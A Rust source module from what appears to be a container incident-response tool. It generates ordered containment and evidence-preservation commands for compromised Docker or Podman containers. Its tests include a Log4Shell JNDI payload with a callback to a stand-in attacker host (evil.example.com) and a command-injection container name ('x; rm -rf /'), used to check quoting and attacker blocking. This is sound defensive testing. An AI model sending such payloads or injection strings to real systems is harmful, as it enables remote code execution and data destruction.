//! The response plan: what to do now, derived from the containers and the findings, with
//! the exact commands. Ordered as a responder works: record and freeze, preserve, cut off,
//! act on what the findings say, kill last.

use std::collections::{BTreeMap, BTreeSet};

use crate::analyze::story::hosts::{HostRecord, Role};
use crate::evidence::ArtifactKind;
use crate::model::Finding;
use crate::report::{BundleReport, ResponseStep};

use crate::analyze::exposure::ESCAPE_RULES;
/// Characters of a finding summary quoted in a step's `why`.
const QUOTE_MAX: usize = 240;
/// The date tag of evidence images: one shell variable, set once before the first step by
/// [`DATE_ASSIGNMENT`] (the `sh` plan writes it at its top), so every file of one response
/// carries the same date even when the response runs past midnight.
const DATE: &str = "${DATE}";
/// The assignment every plan's commands expect to have run once, first.
pub const DATE_ASSIGNMENT: &str = "DATE=$(date -u +%Y%m%d)";

/// Finding rules named in the `why` of a containment step (the rest are counted).
const ANSWERS_SHOWN: usize = 4;

/// A container the plan acts on.
struct Target {
    name: String,
    id: String,
    running: bool,
    /// Networks to disconnect; None when unknown.
    networks: Option<Vec<String>>,
    host_network: bool,
    /// Kubernetes pod namespace and name (dockershim labels), when known.
    pod: Option<(String, String)>,
}

/// The name of the plan target a finding belongs to (its typed owner), when it is one's.
fn owner_name(f: &Finding, targets: &[Target]) -> Option<String> {
    let c = f.owner.as_ref().and_then(crate::model::Owner::as_container)?;
    targets
        .iter()
        .find(|t| c.same(&crate::model::ContainerRef { id: t.id.clone(), name: t.name.clone() }))
        .map(|t| t.name.clone())
        .or_else(|| Some(c.handle().to_string()))
}

/// Steps for the responder, in order.
pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
    let targets = targets(report);
    let mut steps = vec![];
    let have: BTreeSet<ArtifactKind> = report.artifacts.iter().map(|a| a.kind).collect();
    // Rules of the findings about each container: titles read `<container>: <what>`, and when
    // the bundle holds one container, every finding of the bundle is about it. Most severe
    // first (findings come sorted), at most ANSWERS_SHOWN named.
    let mut rules_of: BTreeMap<String, Vec<&str>> = BTreeMap::new();
    let single = (targets.len() == 1).then(|| targets[0].name.clone());
    for f in findings {
        let owner = single.clone().or_else(|| owner_name(f, &targets));
        if let Some(owner) = owner {
            let rules = rules_of.entry(owner).or_default();
            if !rules.contains(&f.rule.as_str()) {
                rules.push(f.rule.as_str());
            }
        }
    }
    let answers = |name: &str| -> String {
        match rules_of.get(name) {
            Some(rules) if rules.len() > ANSWERS_SHOWN => format!(
                "answers {} and {} more",
                rules[..ANSWERS_SHOWN].join(", "),
                rules.len() - ANSWERS_SHOWN
            ),
            Some(rules) => format!("answers {}", rules.join(", ")),
            None => "no finding names it, but it is part of this incident's evidence".into(),
        }
    };

    // 1. Record the veth (exec fails once paused), then freeze.
    for t in targets.iter().filter(|t| t.running && !t.host_network) {
        let n = q(&t.name);
        steps.push(ResponseStep {
            step: format!("Record the host-side network interface of {} (before pausing)", t.name),
            why: format!(
                "read from the host through /proc/PID/root, so nothing runs inside the container (no docker \
                 exec, which also fails once it is paused); the number is the host ifindex of the container's \
                 veth, saved to {} and read back to cut it off later; {}",
                iflink_file(&t.name),
                answers(&t.name)
            ),
            commands: vec![
                format!(
                    "cat \"/proc/$(docker inspect -f '{{{{.State.Pid}}}}' {n})/root/sys/class/net/eth0/iflink\" > {}",
                    iflink_file(&t.name)
                ),
                format!("cat {}", iflink_file(&t.name)),
                format!(
                    "nsenter -t \"$(docker inspect -f '{{{{.State.Pid}}}}' {n})\" -n ip -o link show eth0"
                ),
            ],
        });
    }
    for t in targets.iter().filter(|t| t.running) {
        steps.push(ResponseStep {
            step: format!("Freeze {}", t.name),
            why: format!(
                "docker pause stops every process in it (cgroup freezer) without losing memory, open \
                 connections or files; {}",
                answers(&t.name)
            ),
            commands: vec![format!("docker pause {}", q(&t.name))],
        });
    }

    // 2. Preserve: the container as an image, and whatever this bundle lacks.
    for t in &targets {
        let image = format!("\"ctriage-evidence/{}:{DATE}\"", repo_name(&t.name));
        let file = format!("\"{}-{DATE}.image.tar\"", repo_name(&t.name));
        steps.push(ResponseStep {
            step: format!("Preserve {} as an evidence image", t.name),
            why: format!(
                "docker commit keeps the container's changed files (its top layer) as an image, so the scene \
                 survives the kill; {}",
                answers(&t.name)
            ),
            commands: vec![
                format!("docker commit {} {image}", q(&t.id)),
                format!("docker save {image} -o {file}"),
                format!("sha256sum {file}"),
            ],
        });
        let stem = repo_name(&t.name);
        let n = q(&t.name);
        let mut capture = vec![];
        let mut lacking = vec![];
        let mut want = |held: bool, what: &'static str, cmd: String| {
            if !held {
                lacking.push(what);
                capture.push(cmd);
            }
        };
        let has = |k: ArtifactKind| have.contains(&k);
        want(has(ArtifactKind::Inspect), "inspect", format!("docker inspect {n} > {stem}.inspect.json"));
        want(
            have.iter().any(|k| k.is_container_output()),
            "logs",
            format!("docker logs -t {n} > {stem}.logs.txt 2>&1"),
        );
        if t.running {
            want(
                has(ArtifactKind::Top),
                "top",
                format!("docker top {n} -eo pid,ppid,user,lstart,args > {stem}.top.txt"),
            );
        }
        want(has(ArtifactKind::Diff), "diff", format!("docker diff {n} > {stem}.diff.txt"));
        want(has(ArtifactKind::FilesystemTar), "export", format!("docker export {n} -o {stem}.export.tar"));
        if !capture.is_empty() {
            capture.push(format!("sha256sum {stem}.* > {stem}.sha256"));
            steps.push(ResponseStep {
                step: format!("Capture what this bundle lacks for {}: {}", t.name, lacking.join(", ")),
                why: "the bundle holds no such capture; take it before the container is gone".into(),
                commands: capture,
            });
        }
    }

    // 3. Contain: off the network.
    for t in targets.iter().filter(|t| t.running) {
        let n = q(&t.name);
        if t.host_network {
            steps.push(ResponseStep {
                step: format!("Block {}'s traffic on the host firewall", t.name),
                why:
                    "it shares the host's network namespace: there is no network to disconnect and no veth; \
                      filter by its processes or stop it"
                        .into(),
                commands: vec![format!("docker top {n} -eo pid,args"), "ss -tnp".into()],
            });
            continue;
        }
        let commands = match &t.networks {
            Some(nets) if !nets.is_empty() => {
                nets.iter().map(|net| format!("docker network disconnect {} {n}", q(net))).collect()
            }
            _ => vec![format!(
                "for net in $(docker inspect -f '{{{{range $k, $v := .NetworkSettings.Networks}}}}{{{{$k}}}} {{{{end}}}}' {n}); do docker network disconnect \"$net\" {n}; done"
            )],
        };
        steps.push(ResponseStep {
            step: format!("Disconnect {} from its networks", t.name),
            why: format!("cuts the attacker's channel and any lateral movement; {}", answers(&t.name)),
            commands,
        });
        steps.push(ResponseStep {
            step: format!("Take {}'s host-side veth down", t.name),
            why: "if the disconnect fails or the daemon does not answer, the veth recorded in the first step \
                  still cuts the container off at the host"
                .into(),
            commands: {
                let f = iflink_file(&t.name);
                vec![
                    format!("ip -o link | grep \"^$(cat {f}):\""),
                    format!(
                        "ip link set \"$(ip -o link | awk -F': ' -v n=\"$(cat {f})\" '$1 == n {{sub(/@.*/, \"\", $2); print $2}}')\" down"
                    ),
                ]
            },
        });
    }

    // 4. What the findings call for.
    finding_steps(&mut steps, &targets, findings, report);

    // 5. Kill last, once the evidence is safe.
    for t in targets.iter().filter(|t| t.running) {
        steps.push(ResponseStep {
            step: format!("Kill {} once its evidence is saved", t.name),
            why: "last: killing ends the attacker's processes but also loses memory and process state".into(),
            commands: vec![format!("docker kill -s KILL {}", q(&t.name))],
        });
    }
    if let Some(cli) = other_cli(report) {
        for c in steps.iter_mut().flat_map(|s| s.commands.iter_mut()) {
            *c = with_cli(c, cli);
        }
    }
    steps
}

/// `podman` when every container of the bundle is a Podman one (read from its data root):
/// its CLI takes the same commands (`pause`, `commit`, `save`, `inspect`, `logs`, `diff`,
/// `export`, `network disconnect`, `kill`...). None: the commands stay `docker`'s.
fn other_cli(report: &BundleReport) -> Option<&'static str> {
    use crate::ingest::inspect::InspectSource;
    let all =
        |s: InspectSource| !report.containers.is_empty() && report.containers.iter().all(|c| c.source == s);
    all(InspectSource::Libpod).then_some("podman")
}

/// A command with each `docker` invocation (at its start, after a space, `(` or `|`) run
/// by `cli` instead; `/var/lib/docker` paths and the `DOCKER-USER` chain stay.
fn with_cli(cmd: &str, cli: &str) -> String {
    let mut out = String::with_capacity(cmd.len());
    let mut rest = cmd;
    while let Some(at) = rest.find("docker ") {
        let before = rest[..at].chars().last();
        out.push_str(&rest[..at]);
        if matches!(before, None | Some(' ' | '(' | '|' | '"')) {
            out.push_str(cli);
            out.push(' ');
        } else {
            out.push_str("docker ");
        }
        rest = &rest[at + "docker ".len()..];
    }
    out.push_str(rest);
    out
}

fn finding_steps(
    steps: &mut Vec<ResponseStep>,
    targets: &[Target],
    findings: &[Finding],
    report: &BundleReport,
) {
    let by_rule = |rule: &str| -> Vec<&Finding> { findings.iter().filter(|f| f.rule == rule).collect() };
    let owner = |f: &Finding| owner_name(f, targets).unwrap_or_default();

    let escape: Vec<&Finding> = findings.iter().filter(|f| ESCAPE_RULES.contains(&f.rule.as_str())).collect();
    if !escape.is_empty() {
        let names: BTreeSet<String> = escape.iter().map(|f| owner(f)).collect();
        let rules: BTreeSet<&str> = escape.iter().map(|f| f.rule.as_str()).collect();
        steps.push(ResponseStep {
            step: "Check the host and every other container: an escape is likely".into(),
            why: format!(
                "{} could reach the host ({}); assume the host and its other containers are compromised \
                 until shown otherwise",
                names.into_iter().collect::<Vec<_>>().join(", "),
                rules.into_iter().collect::<Vec<_>>().join(", ")
            ),
            commands: vec![
                "docker ps -a --no-trunc".into(),
                "docker events --since 72h --until \"$(date -u +%Y-%m-%dT%H:%M:%SZ)\"".into(),
                "docker images --digests --no-trunc".into(),
                "ls -la /etc/cron.d /var/spool/cron /root/.ssh /etc/systemd/system /etc/ld.so.preload".into(),
                "find / -xdev -newer /etc/hostname -type f \\( -perm -4000 -o -path '/tmp/*' -o -path '/dev/shm/*' \\) -ls 2>/dev/null"
                    .into(),
                "last -Faiw | head -50".into(),
            ],
        });
    }

    // Secrets: per container, names only.
    let mut secrets: BTreeMap<String, Vec<&Finding>> = BTreeMap::new();
    for f in by_rule("exposure.env-secrets") {
        secrets.entry(owner(f)).or_default().push(f);
    }
    for (name, fs) in secrets {
        let names = fs.first().map(|f| secret_names(&f.summary)).unwrap_or_default();
        steps.push(ResponseStep {
            step: format!("Rotate the secrets in {name}'s environment: {names}"),
            why: "exposure.env-secrets: every process in the container (and the attacker) could read them; \
                  change them where they are issued and check their use since the compromise"
                .into(),
            commands: vec![],
        });
    }

    for f in by_rule("exposure.k8s-token") {
        let name = owner(f);
        let (ns, pod) = targets
            .iter()
            .find(|t| t.name == name)
            .and_then(|t| t.pod.clone())
            .unwrap_or_else(|| ("<namespace>".into(), "<pod>".into()));
        steps.push(ResponseStep {
            step: format!("Revoke and rotate the Kubernetes service account of {name}"),
            why: "exposure.k8s-token: the mounted token lets the attacker call the cluster API; see what it \
                  may do, what it did (API server audit log), and invalidate it"
                .into(),
            commands: vec![
                format!("NS={}; POD={}", q(&ns), q(&pod)),
                "SA=$(kubectl -n \"$NS\" get pod \"$POD\" -o jsonpath='{.spec.serviceAccountName}')".into(),
                "kubectl auth can-i --list \"--as=system:serviceaccount:$NS:$SA\"".into(),
                "kubectl get rolebindings,clusterrolebindings -A -o wide | grep -w \"$SA\"".into(),
                "grep \"system:serviceaccount:$NS:$SA\" /var/log/kubernetes/audit/audit.log".into(),
                "kubectl -n \"$NS\" delete pod \"$POD\"   # bound tokens die with the pod; delete legacy token secrets of $SA too".into(),
            ],
        });
    }

    for f in by_rule("stats.cpu-high") {
        let name = owner(f);
        let n = q(&name);
        steps.push(ResponseStep {
            step: format!("Look for a cryptominer in {name} and its pool connections"),
            why: format!("stats.cpu-high: {}", clip(&f.summary)),
            commands: vec![
                format!("docker top {n} -eo pid,ppid,user,pcpu,lstart,args"),
                format!("nsenter -t \"$(docker inspect -f '{{{{.State.Pid}}}}' {n})\" -n ss -tnp"),
                "conntrack -L -p tcp 2>/dev/null | grep -E 'dport=(3333|4444|5555|7777|9999|14444|45700)'"
                    .into(),
            ],
        });
    }

    // The attacker's addresses (exploit senders, callbacks, payload servers, mining pools),
    // never the victim's own or a third party's: the story classified every host.
    let attackers: Vec<&HostRecord> =
        report.story.hosts.iter().filter(|h| h.role == Role::Attacker).collect();
    if !attackers.is_empty() {
        let why: Vec<String> =
            attackers.iter().map(|h| format!("{}: {}", h.value, clip(&h.reasons.join("; ")))).collect();
        let block: Vec<String> = attackers
            .iter()
            .filter(|h| h.kind == "ip")
            .flat_map(|h| {
                let tool = if h.value.contains(':') { "ip6tables" } else { "iptables" };
                [
                    format!("{tool} -I DOCKER-USER -d {} -j DROP", h.value),
                    format!("{tool} -I DOCKER-USER -s {} -j DROP", h.value),
                ]
            })
            .collect();
        let names: Vec<&str> =
            attackers.iter().filter(|h| h.kind == "domain").map(|h| h.value.as_str()).collect();
        let names = if names.is_empty() {
            String::new()
        } else {
            format!("; block these host names at the DNS resolver or egress proxy: {}", names.join(", "))
        };
        steps.push(ResponseStep {
            step: "Block the attacker's addresses".into(),
            why: format!(
                "attacker-side only (the container's own addresses, the servers the requests named and loopback are never blocked): {}{names}",
                why.join("; ")
            ),
            commands: block,
        });
        let pats: String = attackers.iter().map(|h| format!(" -e {}", q(&h.value))).collect();
        steps.push(ResponseStep {
            step: "Hunt for the same indicators on other hosts and containers".into(),
            why: "the same exploit is usually sprayed at every exposed host, and the same infrastructure serves every victim".into(),
            commands: vec![format!("grep -rIlF{pats} /var/lib/docker/containers /var/log")],
        });
    }
}

/// The containers to act on: from inspect, else from ps listings; sorted by name.
fn targets(report: &BundleReport) -> Vec<Target> {
    let mut out: BTreeMap<String, Target> = BTreeMap::new();
    for c in &report.containers {
        let h = c.host_config.as_ref();
        let mode = h.and_then(|h| h.network_mode.as_deref());
        let label = |k: &str| c.config.labels.get(k).filter(|v| !v.is_empty()).cloned();
        let networks: Vec<String> = c.network.networks.iter().map(|n| n.name.clone()).collect();
        out.entry(c.handle().to_string()).or_insert(Target {
            name: c.handle().to_string(),
            id: c.id.clone(),
            running: c.state.running || c.state.paused || c.state.restarting,
            networks: (!networks.is_empty()).then_some(networks),
            host_network: mode == Some("host") || networks_are(c, "host"),
            pod: label("io.kubernetes.pod.namespace").zip(label("io.kubernetes.pod.name")),
        });
    }
    if out.is_empty() {
        for r in &report.ps {
            let networks = (!r.networks.is_empty()).then(|| r.networks.clone());
            let host_network = r.networks == ["host"];
            out.entry(r.handle().to_string()).or_insert(Target {
                name: r.handle().to_string(),
                id: r.container_id.clone(),
                running: r.is_running(),
                networks,
                host_network,
                pod: None,
            });
        }
    }
    out.into_values().collect()
}

fn networks_are(c: &crate::ingest::inspect::ContainerInfo, name: &str) -> bool {
    matches!(c.network.networks.as_slice(), [only] if only.name == name)
}

/// A container name as an image repository component: lower case, `[a-z0-9_.-]`.
fn repo_name(name: &str) -> String {
    let s: String = name
        .chars()
        .map(|c| c.to_ascii_lowercase())
        .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-') { c } else { '_' })
        .collect();
    let s = s.trim_start_matches(['_', '.', '-']);
    if s.is_empty() {
        "container".into()
    } else {
        s.to_string()
    }
}

/// The shell variable holding a container's veth index (`IFLINK_web`).
/// The file the first step saves a container's veth index to, read back by the cut-off step
/// (a file, not a shell variable: the steps may run in different shells).
fn iflink_file(name: &str) -> String {
    format!("{}.iflink", repo_name(name))
}

/// Quote for a POSIX shell (names come from hostile evidence).
fn q(s: &str) -> String {
    if !s.is_empty() && s.chars().all(|c| c.is_ascii_alphanumeric() || "_.-/:@=+,".contains(c)) {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

fn clip(s: &str) -> String {
    if s.chars().count() <= QUOTE_MAX {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(QUOTE_MAX).collect::<String>())
    }
}

/// The variable names an env-secrets finding lists (`...: NAME, NAME; why`).
fn secret_names(summary: &str) -> String {
    summary.split_once("): ").map(|(_, r)| r).unwrap_or(summary).split(';').next().unwrap_or("").to_string()
}

#[cfg(test)]
mod tests {
    #[test]
    fn podman_containers_get_podman_commands() {
        assert_eq!(with_cli("docker pause web", "podman"), "podman pause web");
        assert_eq!(
            with_cli("cat \"/proc/$(docker inspect -f '{{.State.Pid}}' web)/root\"", "podman"),
            "cat \"/proc/$(podman inspect -f '{{.State.Pid}}' web)/root\""
        );
        assert_eq!(
            with_cli("grep -rIlF -e x /var/lib/docker/containers", "podman"),
            "grep -rIlF -e x /var/lib/docker/containers"
        );
        assert_eq!(
            with_cli("iptables -I DOCKER-USER -d 1.2.3.4 -j DROP", "podman"),
            "iptables -I DOCKER-USER -d 1.2.3.4 -j DROP"
        );
    }

    use super::*;
    use crate::evidence::{BundleKind, Compression};
    use crate::ingest::inspect::parse_bytes;
    use crate::ingest::pslist::PsRow;
    use crate::model::{Locator, Severity};
    use crate::report::ArtifactRecord;

    const INSPECT: &str = r#"[{"Id":"4f2a9c1be0d3aa55e0f1c2d3b4a59687","Name":"/web",
        "State":{"Running":true,"Pid":84010,"StartedAt":"2026-11-27T13:58:02Z"},
        "HostConfig":{"Privileged":true,"NetworkMode":"bridge"},
        "Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","RW":true}],
        "Config":{"Env":["DB_PASSWORD=x1","API_TOKEN=y2"],"Image":"tomcat"},
        "NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.2"},"backend":{"IPAddress":"172.20.0.5"}}}},
        {"Id":"9c1e7b2a8f0011","Name":"/old","State":{"Running":false,"StartedAt":"2026-11-27T10:00:00Z",
        "FinishedAt":"2026-11-27T11:00:00Z"},"Config":{"User":"app"}}]"#;

    fn bundle(kinds: &[ArtifactKind]) -> BundleReport {
        let records = kinds
            .iter()
            .map(|k| ArtifactRecord {
                path: k.as_str().into(),
                kind: *k,
                size: 1,
                sha256: None,
                compression: Compression::None,
                error: None,
                note: None,
            })
            .collect();
        BundleReport::new("case".into(), BundleKind::Directory, records)
    }

    fn jndi() -> Finding {
        Finding {
            rule: "log.jndi".into(),
            severity: Severity::Critical,
            category: "initial-access".into(),
            title: "JNDI lookup in a request".into(),
            summary:
                "GET /?x=${jndi:ldap://198.51.100.7:1389/Exploit} and callback http://evil.example.com/a.sh"
                    .into(),
            attack: Some("T1190".into()),
            time: None,
            evidence: vec![Locator::artifact("access.log").with_line(3)],
            subject: None,
            owner: None,
            iocs: vec![],
        }
    }

    #[test]
    fn preserve_then_contain_then_kill() {
        let mut b = bundle(&[ArtifactKind::Inspect, ArtifactKind::JsonFileLog]);
        let (doc, _) = parse_bytes(INSPECT.as_bytes(), &Locator::artifact("inspect.json"));
        b.containers = doc.containers;
        let mut findings = crate::analyze::exposure::audit(&b.containers);
        findings.push(jndi());
        let host = |value: &str, kind, role, why: &str| HostRecord {
            value: value.into(),
            kind,
            role,
            reasons: vec![why.into()],
            first_seen: None,
            last_seen: None,
            evidence: vec![],
        };
        b.story.hosts = vec![
            host(
                "198.51.100.7",
                "ip",
                Role::Attacker,
                "sent a JNDI request ${jndi:ldap://198.51.100.7:1389/Exploit}",
            ),
            host("evil.example.com", "domain", Role::Attacker, "served a payload"),
            host("172.17.0.5", "ip", Role::Victim, "IP address of container web"),
            host("192.0.2.9", "ip", Role::Unknown, "named in a log"),
        ];
        let plan = plan(&b, &findings);
        let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
        assert_eq!(
            steps,
            [
                "Record the host-side network interface of web (before pausing)",
                "Freeze web",
                "Preserve old as an evidence image",
                "Capture what this bundle lacks for old: diff, export",
                "Preserve web as an evidence image",
                "Capture what this bundle lacks for web: top, diff, export",
                "Disconnect web from its networks",
                "Take web's host-side veth down",
                "Check the host and every other container: an escape is likely",
                "Rotate the secrets in web's environment: DB_PASSWORD, API_TOKEN",
                "Block the attacker's addresses",
                "Hunt for the same indicators on other hosts and containers",
                "Kill web once its evidence is saved",
            ]
        );
        let cmds = |i: usize| plan[i].commands.join("\n");
        assert_eq!(cmds(1), "docker pause web");
        assert_eq!(
            cmds(0).lines().next().unwrap(),
            "cat \"/proc/$(docker inspect -f '{{.State.Pid}}' web)/root/sys/class/net/eth0/iflink\" > web.iflink"
        );
        assert!(
            !plan.iter().flat_map(|s| &s.commands).any(|c| c.contains("docker exec")),
            "nothing runs inside"
        );
        // The veth index is read back from the file the first step saved it to.
        assert!(cmds(7).starts_with("ip -o link | grep \"^$(cat web.iflink):\""), "{}", cmds(7));
        assert!(cmds(7).contains("-v n=\"$(cat web.iflink)\""), "{}", cmds(7));
        // One DATE for the whole response, set once before the first step.
        assert!(cmds(4)
            .starts_with("docker commit 4f2a9c1be0d3aa55e0f1c2d3b4a59687 \"ctriage-evidence/web:${DATE}\""));
        assert!(!plan.iter().flat_map(|s| &s.commands).any(|c| c.contains("+%Y%m%d")), "DATE is set once");
        assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
        assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
        assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
        assert!(
            !cmds(10).contains("172.17.0.5") && !cmds(10).contains("192.0.2.9"),
            "only attacker-side: {}",
            cmds(10)
        );
        assert!(plan[10].why.ends_with("egress proxy: evil.example.com"), "{}", plan[10].why);
        assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
        assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
        assert!(
            plan[8].why.contains("exposure.privileged") && plan[8].why.contains("exposure.runtime-socket")
        );
        // Most severe first, at most four named.
        assert!(
            plan[1].why.ends_with("answers exposure.privileged, exposure.runtime-socket, exposure.env-secrets, exposure.no-new-privileges-missing and 3 more"),
            "{}",
            plan[1].why
        );
        assert_eq!(cmds(12), "docker kill -s KILL web");
        // Same input, same plan.
        assert_eq!(plan, super::plan(&b, &findings));
    }

    #[test]
    fn ps_listing_targets_and_hostile_names() {
        let mut b = bundle(&[
            ArtifactKind::Ps,
            ArtifactKind::Inspect,
            ArtifactKind::DockerLogsTimestamped,
            ArtifactKind::Top,
            ArtifactKind::Diff,
            ArtifactKind::FilesystemTar,
        ]);
        b.ps = vec![
            PsRow {
                container_id: "aa00bb11cc22".into(),
                names: vec!["x; rm -rf /".into()],
                state: Some("running".into()),
                ..Default::default()
            },
            PsRow {
                container_id: "dd00".into(),
                names: vec!["gone".into()],
                state: Some("exited".into()),
                ..Default::default()
            },
        ];
        let plan = plan(&b, &[]);
        let all: Vec<String> = plan.iter().flat_map(|s| s.commands.clone()).collect();
        assert!(all.contains(&"docker pause 'x; rm -rf /'".to_string()), "{all:?}");
        assert!(all
            .iter()
            .any(|c| c.starts_with("docker commit aa00bb11cc22 \"ctriage-evidence/x__rm_-rf__:${DATE}\"")));
        assert!(all.iter().any(|c| c.starts_with("for net in $(docker inspect")));
        assert!(!all.iter().any(|c| c.contains("pause gone") || c.contains("kill -s KILL gone")));
        assert!(all.iter().any(|c| c.starts_with("docker commit dd00 ")));
        assert!(!plan.iter().any(|s| s.step.starts_with("Capture")), "every capture is in the bundle");
    }

    #[test]
    fn any_runtime_log_counts_as_captured_output() {
        for kind in [ArtifactKind::CriLog, ArtifactKind::JournalExport, ArtifactKind::LocalLog] {
            let mut b = bundle(&[ArtifactKind::Ps, ArtifactKind::Inspect, kind]);
            b.ps = vec![PsRow {
                container_id: "aa00".into(),
                names: vec!["web".into()],
                state: Some("exited".into()),
                ..Default::default()
            }];
            let plan = plan(&b, &[]);
            let capture = plan.iter().find(|s| s.step.starts_with("Capture")).expect("diff and export lack");
            assert_eq!(capture.step, "Capture what this bundle lacks for web: diff, export", "{kind:?}");
        }
        // A plain text log (an application's own file) is not the container's output.
        let mut b = bundle(&[ArtifactKind::Ps, ArtifactKind::Inspect, ArtifactKind::TextLog]);
        b.ps = vec![PsRow { container_id: "aa00".into(), names: vec!["web".into()], ..Default::default() }];
        let plan = plan(&b, &[]);
        assert!(plan.iter().any(|s| s.step.starts_with("Capture") && s.step.contains("logs")));
    }
}
